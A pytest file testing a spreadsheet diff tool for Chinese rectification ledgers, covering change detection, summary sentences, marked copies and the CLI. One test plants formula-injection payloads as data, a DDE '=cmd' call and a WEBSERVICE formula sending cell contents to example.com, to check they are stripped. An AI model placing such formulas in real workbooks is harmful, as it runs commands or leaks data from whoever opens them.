"""ledger-tools diff: version pairs made from the example ledger by programmatic edits."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledger_tools.cli import cli
from ledger_tools.ledger.normalise import load_ledger
from ledger_tools.ledger.stats import compute_stats
from ledger_tools.upward.diff import (
    _overdue_trend,
    compare,
    compare_files,
    since_context,
    write_marked_copy,
)

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "示例台账.xlsx"
TODAY = dt.date(2024, 5, 10)
OLD_DAY = dt.date(2024, 4, 10)


# ---------------------------------------------------------------------------------------------
# Editing a copy of the example ledger with openpyxl


def read_rows(path: Path = EXAMPLE) -> tuple[list[str], list[dict[str, Any]]]:
    """The 整改台账 rows as dicts, with merged cells filled (every row complete)."""
    wb = openpyxl.load_workbook(path)
    ws = wb["整改台账"]
    for rng in list(ws.merged_cells.ranges):
        value = ws.cell(rng.min_row, rng.min_col).value
        ws.unmerge_cells(str(rng))
        for row in ws.iter_rows(rng.min_row, rng.max_row, rng.min_col, rng.max_col):
            for cell in row:
                cell.value = value
    header = [c.value for c in ws[1]]
    rows = [
        dict(zip(header, values, strict=True))
        for values in ws.iter_rows(min_row=2, values_only=True)
        if any(v is not None for v in values)
    ]
    return header, rows


def write_version(
    dest: Path, rows: list[dict[str, Any]], info: dict[str, Any] | None = None
) -> Path:
    """A copy of the example whose 整改台账 holds ``rows`` (no merges) and whose 基本信息 has
    ``info`` changed."""
    header, _ = read_rows()
    wb = openpyxl.load_workbook(EXAMPLE)
    ws = wb["整改台账"]
    for rng in list(ws.merged_cells.ranges):
        ws.unmerge_cells(str(rng))
    ws.delete_rows(2, ws.max_row)
    for row in rows:
        ws.append([row.get(h) for h in header])
    info_ws = wb["基本信息"]
    for r in range(1, info_ws.max_row + 1):
        name = info_ws.cell(r, 1).value
        if info and name in info:
            info_ws.cell(r, 2).value = info[name]
    wb.save(dest)
    return dest


def find(rows: list[dict[str, Any]], text: str) -> int:
    hits = [i for i, r in enumerate(rows) if text in str(r["整改措施"])]
    assert len(hits) == 1, text
    return hits[0]


def kinds(cmp: Any) -> list[str]:
    return sorted(c.kind for c in cmp.changes)


@pytest.fixture(scope="module")
def base_rows() -> list[dict[str, Any]]:
    return read_rows()[1]


@pytest.fixture(scope="module")
def old_file(tmp_path_factory: pytest.TempPathFactory, base_rows: list[dict[str, Any]]) -> Path:
    folder = tmp_path_factory.mktemp("old")
    return write_version(folder / "上期.xlsx", base_rows, {"成文日期": OLD_DAY})


def edited_rows(base: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Every kind of edit the issue names, on one copy."""
    rows = [dict(r) for r in base]
    # advanced: the last open measure of problem 6 → problem 6 becomes 办结
    i = find(rows, "开展固定资产清查盘点")
    rows[i].update({"整改状态": "已完成", "完成时间": dt.datetime(2024, 5, 8)})
    # regressed: problem 1 loses its 办结
    i = find(rows, "修订局党组理论学习中心组学习制度")
    rows[i].update({"整改状态": "正在推进", "完成时间": None})
    # deadlines moved
    rows[find(rows, "对整改不到位的3个问题")]["整改时限"] = "2024年9月底前"
    rows[find(rows, "开展物业服务质量专项整治")]["整改时限"] = "2024年8月31日"
    # a problem reworded
    for r in rows:
        if r["问题"] == "落实全面从严治党主体责任不够有力":
            r["问题"] = "全面从严治党主体责任落实不够到位"
    # a measure split into two rows
    i = find(rows, "制定年轻干部培养三年计划")
    first, _, rest = str(rows[i]["整改措施"]).partition("，")
    rows[i : i + 1] = [
        {**rows[i], "整改措施": first + "。"},
        {**rows[i], "整改措施": rest},
    ]
    # reordered: problem 12 before problem 11, measures of problem 10 reversed
    p11 = [r for r in rows if r["序号"] == 11]
    p12 = [r for r in rows if r["序号"] == 12]
    start = rows.index(p11[0])
    rows[start : start + len(p11) + len(p12)] = p12 + p11
    p10 = [i for i, r in enumerate(rows) if r["序号"] == 10]
    rows[p10[0] : p10[-1] + 1] = list(reversed(rows[p10[0] : p10[-1] + 1]))
    # inserted: a new measure in problem 13, a new problem after problem 5 (renumbering)
    last = max(i for i, r in enumerate(rows) if r["序号"] == 13)
    rows.insert(
        last + 1,
        {**rows[last], "整改措施": "建立物业服务企业信用评价和退出机制", "整改状态": "未启动",
         "完成时间": None, "整改时限": "2024年10月31日", "整改进展及成效": None,
         "佐证材料": None},
    )  # fmt: skip
    for r in rows:
        if isinstance(r["序号"], int) and r["序号"] > 5:
            r["序号"] += 1
    after5 = max(i for i, r in enumerate(rows) if r["序号"] == 5)
    new_problem = {
        **rows[after5],
        "序号": 6,
        "问题": "住房保障资格审核把关不严",
        "问题表现": "个别保障对象收入变化后未及时退出。",
        "整改目标": "审核和退出机制健全。",
        "整改状态": "正在推进",
        "完成时间": None,
        "整改进展及成效": None,
        "佐证材料": None,
        "整改时限": "2024年7月31日",
    }
    rows[after5 + 1 : after5 + 1] = [
        {**new_problem, "整改措施": "对在保家庭收入、住房情况开展全面复核"},
        {**new_problem, "整改措施": "建立住房保障动态退出台账，按月更新"},
    ]
    return rows


@pytest.fixture(scope="module")
def new_file(tmp_path_factory: pytest.TempPathFactory, base_rows: list[dict[str, Any]]) -> Path:
    folder = tmp_path_factory.mktemp("new")
    return write_version(folder / "本期.xlsx", edited_rows(base_rows))


@pytest.fixture(scope="module")
def comparison(old_file: Path, new_file: Path) -> Any:
    return compare_files(old_file, new_file, today=TODAY)


# ---------------------------------------------------------------------------------------------
# Every change found, nothing else


def test_unmerged_rewrite_of_the_example_is_no_change(old_file: Path) -> None:
    cmp = compare_files(EXAMPLE, old_file, today=TODAY)
    assert cmp.changes == []
    assert "没有变化" in cmp.sentence


def test_every_edit_found_and_nothing_else(comparison: Any) -> None:
    assert kinds(comparison) == sorted(
        [
            "status-advanced",
            "problem-closed",
            "status-regressed",
            "problem-reopened",
            "deadline-extended",
            "deadline-extended",
            "problem-reworded",
            "measure-split",
            "measure-split",
            "measure-added",
            "problem-added",
        ]
    ), [f"{c.kind} {c.problem} {c.measure}" for c in comparison.changes]


def test_changes_name_both_cells_and_values(comparison: Any) -> None:
    by = {c.kind: c for c in comparison.changes}
    regress = by["status-regressed"]
    assert (regress.old, regress.new) == ("已完成", "正在推进")
    assert regress.old_cell == "整改台账!L2" and regress.new_cell == "整改台账!L2"
    assert regress.problem == "政治理论学习不够深入"
    advance = by["status-advanced"]
    assert (advance.old, advance.new) == ("正在推进", "已完成")
    # problem 6 moved down two rows (the new problem) and one more (the split came later)
    assert advance.old_cell == "整改台账!L20" and advance.new_cell == "整改台账!L22"
    moved = {c.old: c.new for c in comparison.changes if c.kind == "deadline-extended"}
    assert moved == {"2024年6月底前": "2024年9月底前", "2024年6月": "2024年8月31日"}
    reworded = by["problem-reworded"]
    assert reworded.old == "落实全面从严治党主体责任不够有力"
    assert reworded.new == "全面从严治党主体责任落实不够到位"
    assert 0.45 <= reworded.confidence < 1
    split = [c for c in comparison.changes if c.kind == "measure-split"]
    assert {c.old_cell for c in split} == {"整改台账!F27"}
    assert all(c.confidence > 0.6 for c in split)
    assert by["problem-added"].new == "住房保障资格审核把关不严（措施2条）"
    assert by["measure-added"].new == "建立物业服务企业信用评价和退出机制"
    assert all(0 < c.confidence <= 1 for c in comparison.changes)


def test_sentence_numbers_are_the_difference_of_the_two_stats(
    comparison: Any, old_file: Path, new_file: Path
) -> None:
    old_stats = compute_stats(load_ledger(old_file), OLD_DAY)
    new_stats = compute_stats(load_ledger(new_file), TODAY)
    s = comparison.summary
    assert s["上期办结数"] == old_stats["办结数"] and s["本期办结数"] == new_stats["办结数"]
    assert s["新增办结"] - s["退回未办结"] - s["删除已办结"] == (
        new_stats["办结数"] - old_stats["办结数"]
    )
    assert s["新增措施"] - s["删除措施"] + s["拆分措施"] == (
        new_stats["措施数"] - old_stats["措施数"]
    )
    assert s["新增问题"] - s["删除问题"] == new_stats["问题数"] - old_stats["问题数"]
    assert s["上期预警"] == old_stats["预警"] and s["本期预警"] == new_stats["预警"]
    assert comparison.sentence == (
        "与上期（2024年4月10日）相比，新增办结1项，1项问题由办结退回未办结，新增问题1项、措施3条，"
        "2条措施延期，1条措施状态倒退，"
        f"办结率由{old_stats['办结率']}降至{new_stats['办结率']}，"
        f"{_overdue_trend(old_stats['预警']['红色'], new_stats['预警']['红色'])}。"
    ), comparison.sentence
    assert old_stats["预警"]["红色"] < new_stats["预警"]["红色"]


def test_sentence_counts_an_added_problem_that_is_already_closed(
    tmp_path: Path, base_rows: list[dict[str, Any]], old_file: Path
) -> None:
    rows = [dict(r) for r in base_rows]
    extra = {**rows[-1], "序号": 14, "问题": "信访积案化解不及时", "整改措施": "逐件化解信访积案",
             "整改状态": "已完成", "完成时间": dt.datetime(2024, 5, 6)}  # fmt: skip
    new = write_version(tmp_path / "本期.xlsx", [*rows, extra])
    cmp = compare_files(old_file, new, today=TODAY)
    s = cmp.summary
    assert kinds(cmp) == ["problem-added"]
    assert s["新增办结"] == 1 == s["本期办结数"] - s["上期办结数"]
    assert cmp.sentence.startswith("与上期（2024年4月10日）相比，新增办结1项，新增问题1项、措施1条")


# ---------------------------------------------------------------------------------------------
# Output: text, JSON, marked copy, CLI


def test_cli_text_and_json(old_file: Path, new_file: Path) -> None:
    runner = CliRunner()
    args = ["diff", str(old_file), str(new_file), "--today", "2024-05-10"]
    text = runner.invoke(cli, args)
    assert text.exit_code == 0, text.output
    assert "【倒退】整改台账!L2" in text.output
    assert "延期（2）" in text.output and "办结率" in text.output
    assert "与上期（2024年4月10日）相比，新增办结1项" in text.output
    data = json.loads(runner.invoke(cli, [*args, "--format", "json"]).output)
    assert data["schema_version"] == 1 and len(data["changes"]) == 11
    assert data["old"]["as_of"] == "2024-04-10" and data["new"]["totals"]["问题数"] == 14
    assert {"kind", "label", "problem", "measure", "old_cell", "new_cell", "old", "new",
            "confidence"} <= set(data["changes"][0])  # fmt: skip


def test_marked_copy(tmp_path: Path, comparison: Any, new_file: Path) -> None:
    before = new_file.read_bytes()
    out = write_marked_copy(comparison, tmp_path / "对比.xlsx")
    assert new_file.read_bytes() == before
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[0] == "与上期对比"
    ws = wb["整改台账"]
    assert ws["L2"].fill.start_color.rgb.endswith("FFC7CE")  # regression: red
    assert "上期（L2）：已完成" in ws["L2"].comment.text
    assert ws["K38"].fill.start_color.rgb.endswith("FFEB9C") or any(
        ws[c.new_cell.partition("!")[2]].comment
        for c in comparison.changes
        if c.kind == "deadline-extended"
    )
    for c in comparison.changes:
        if c.kind == "deadline-extended":
            cell = ws[c.new_cell.partition("!")[2]]
            assert c.old in cell.comment.text and cell.value == c.new
    listing = wb["与上期对比"]
    assert listing["A1"].value == comparison.sentence
    assert listing.max_row == 3 + len(comparison.changes)


def test_marked_copy_runs_nothing(tmp_path: Path, base_rows: list[dict[str, Any]]) -> None:
    """Formulas reaching outside the workbook lose the formula in the copy (as check --mark's
    copy); ordinary formulas stay."""
    rows = [dict(r) for r in base_rows]
    rows[0]["备注"] = "=cmd|'/c calc'!A1"
    rows[1]["备注"] = '=WEBSERVICE("http://example.com/"&A1)'
    rows[2]["备注"] = "=1+1"
    old = write_version(tmp_path / "上期.xlsx", base_rows)
    new = write_version(tmp_path / "本期.xlsx", rows)
    out = write_marked_copy(compare_files(old, new, today=TODAY), tmp_path / "对比.xlsx")
    ws = openpyxl.load_workbook(out)["整改台账"]
    col = list(base_rows[0]).index("备注") + 1
    assert [ws.cell(r, col).value for r in (2, 3, 4)] == [None, None, "=1+1"]


def test_cli_mark_refuses_to_overwrite(tmp_path: Path, old_file: Path, new_file: Path) -> None:
    target = tmp_path / "对比.xlsx"
    target.write_bytes(b"keep")
    args = ["diff", str(old_file), str(new_file), "--mark", str(target)]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 2 and "已存在" in result.output and target.read_bytes() == b"keep"
    result = CliRunner().invoke(cli, [*args, "--force", "--today", "2024-05-10"])
    assert result.exit_code == 0 and "已另存对比副本" in result.output


def test_since_context_is_empty_without_a_comparison(comparison: Any) -> None:
    assert since_context(None) == {"与上期": {}, "与上期说明": ""}
    ctx = since_context(comparison)
    assert ctx["与上期说明"] == comparison.sentence and ctx["与上期"]["延期措施"] == 2


# ---------------------------------------------------------------------------------------------
# Properties: a ledger diffed with itself reports nothing; one random edit is reported


@pytest.fixture(scope="module")
def example_ledger() -> Any:
    return load_ledger(EXAMPLE)


def test_a_ledger_compared_with_itself_reports_nothing(example_ledger: Any) -> None:
    cmp = compare(example_ledger, example_ledger, today=TODAY)
    assert cmp.changes == [] and cmp.summary["变化数"] == 0


EDITS = {
    "整改状态": ("未启动", {"status-regressed", "status-changed", "status-advanced"}),
    "整改时限": ("2025年12月31日", {"deadline-extended", "deadline-changed"}),
    "责任人": ("周某某", {"owner-changed"}),
    "责任领导": ("吴某某（副局长）", {"owner-changed"}),
    "整改进展及成效": ("已召开专题会议部署推进。", {"progress-changed"}),
}


@settings(
    max_examples=6,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(index=st.integers(min_value=0, max_value=40), column=st.sampled_from(sorted(EDITS)))
def test_one_random_edit_is_reported(
    tmp_path_factory: pytest.TempPathFactory,
    base_rows: list[dict[str, Any]],
    old_file: Path,
    index: int,
    column: str,
) -> None:
    value, expected = EDITS[column]
    rows = [dict(r) for r in base_rows]
    index %= len(rows)  # the example's row count may change
    if str(rows[index][column]) == value:
        return
    # 责任领导 is the same over a problem (merged): edit the whole problem, as a clerk would.
    targets = (
        [r for r in rows if r["序号"] == rows[index]["序号"]]
        if column == "责任领导"
        else [rows[index]]
    )
    for r in targets:
        r[column] = value
        if column == "整改状态":
            r["完成时间"] = None
    new = write_version(tmp_path_factory.mktemp("edit") / "本期.xlsx", rows)
    cmp = compare_files(old_file, new, today=TODAY)
    main = [c for c in cmp.changes if c.kind not in ("problem-closed", "problem-reopened")]
    target_rows = {rows.index(r) + 2 for r in targets}
    assert {int(c.new_cell.rpartition("!")[2].lstrip("ABCDEFGHIJKLMNOPQRS")) for c in main} == (
        target_rows
    ), [(c.kind, c.new_cell) for c in cmp.changes]
    assert all(c.kind in expected and c.field == column for c in main)
    assert all(c.new == value for c in main)
    assert all(c.old_cell == c.new_cell for c in main)


# ---------------------------------------------------------------------------------------------
# report --since: the comparison in the document


def test_report_since_adds_the_sentence_after_the_statistics(
    tmp_path: Path, old_file: Path, new_file: Path, comparison: Any
) -> None:
    from docx import Document

    out = tmp_path / "报告.docx"
    args = ["report", str(new_file), "--as-of", "2024-05-10", "--today", "2024-05-10"]
    result = CliRunner().invoke(cli, [*args, "--since", str(old_file), "-o", str(out), "--force"])
    assert result.exit_code == 0, result.output
    stats_para = next(p.text for p in Document(out).paragraphs if p.text.startswith("对照"))
    statistics = compute_stats(load_ledger(new_file), TODAY)["统计句"]
    assert stats_para == statistics + comparison.sentence
    plain = tmp_path / "无对比.docx"
    CliRunner().invoke(cli, [*args, "-o", str(plain), "--force"])
    assert next(p.text for p in Document(plain).paragraphs if p.text.startswith("对照")) == (
        statistics
    )


def test_context_documents_the_comparison(old_file: Path, new_file: Path) -> None:
    from ledger_tools.documents.context import build_context

    old, new = load_ledger(old_file), load_ledger(new_file)
    ctx = build_context(new, "report", as_of=TODAY, comparison=compare(old, new, TODAY))
    assert ctx["与上期"]["新增办结"] == 1 and ctx["与上期"]["上期日期"] == "2024年4月10日"
    assert ctx["与上期说明"].startswith("与上期（2024年4月10日）相比")
    assert build_context(new, "report", as_of=TODAY)["与上期说明"] == ""


def test_merged_measures_are_recognised(tmp_path: Path, base_rows: list[dict[str, Any]]) -> None:
    rows = [dict(r) for r in base_rows]
    a = find(rows, "建立老旧小区改造项目月调度")
    b = find(rows, "对燃气安全隐患逐项复核")
    merged = str(rows[a]["整改措施"]) + str(rows[b]["整改措施"])
    rows[a]["整改措施"] = merged
    del rows[b]
    old = write_version(tmp_path / "上期.xlsx", base_rows)
    new = write_version(tmp_path / "本期.xlsx", rows)
    cmp = compare_files(old, new, today=TODAY)
    assert kinds(cmp) == ["measure-merged", "measure-merged"], [c.kind for c in cmp.changes]
    assert {c.new_cell for c in cmp.changes} == {f"整改台账!F{a + 2}"}
    assert cmp.summary["合并措施"] == 1


# ---------------------------------------------------------------------------------------------
# The bundled pair examples/示例台账-上期.xlsx → examples/示例台账.xlsx (quoted in the README)


def test_previous_example_is_reproducible(tmp_path: Path) -> None:
    import importlib.util

    spec = importlib.util.spec_from_file_location(
        "build_previous", ROOT / "examples" / "build_previous.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    out = module.build(tmp_path / "上期.xlsx")
    assert out.read_bytes() == (ROOT / "examples" / "示例台账-上期.xlsx").read_bytes()


def test_example_pair_as_documented() -> None:
    cmp = compare_files(ROOT / "examples" / "示例台账-上期.xlsx", EXAMPLE, today=TODAY)
    assert cmp.sentence == (
        "与上期（2024年4月10日）相比，新增办结2项，2条措施延期，1条措施状态倒退，"
        "办结率由38.5%提高到53.8%，新出现超期未办结措施1条。"
    )
    counts = {k: cmp.count(k) for k in ("problem-closed", "status-advanced", "status-regressed",
                                         "deadline-extended", "progress-changed")}  # fmt: skip
    assert counts == {
        "problem-closed": 2,
        "status-advanced": 4,
        "status-regressed": 1,
        "deadline-extended": 2,
        "progress-changed": 5,
    }
    assert len(cmp.changes) == 14


def test_removed_and_reworded(
    tmp_path: Path, base_rows: list[dict[str, Any]], old_file: Path
) -> None:
    rows = [dict(r) for r in base_rows]
    del rows[find(rows, "清理整治长期未更新栏目")]  # one measure of problem 3
    rows = [r for r in rows if r["序号"] != 8]  # the whole of problem 8
    i = find(rows, "修订政务新媒体信息发布审核制度")
    rows[i]["整改措施"] = "修订政务新媒体信息发布审核制度，严格落实“三审三校”和值班值守。"
    new = write_version(tmp_path / "本期.xlsx", rows)
    cmp = compare_files(old_file, new, today=TODAY)
    assert kinds(cmp) == ["measure-removed", "measure-reworded", "problem-removed"]
    by = {c.kind: c for c in cmp.changes}
    assert by["problem-removed"].old == "领导班子建设有待加强（措施3条）"
    assert by["problem-removed"].old_cell == "整改台账!C23" and not by["problem-removed"].new_cell
    assert by["measure-removed"].old_cell == "整改台账!F11"
    assert by["measure-reworded"].old.endswith("严格落实“三审三校”。")
    s = cmp.summary
    assert (s["删除问题"], s["删除措施"], s["删除已办结"]) == (1, 4, 1)
    assert "删除问题1项、措施4条" in cmp.sentence
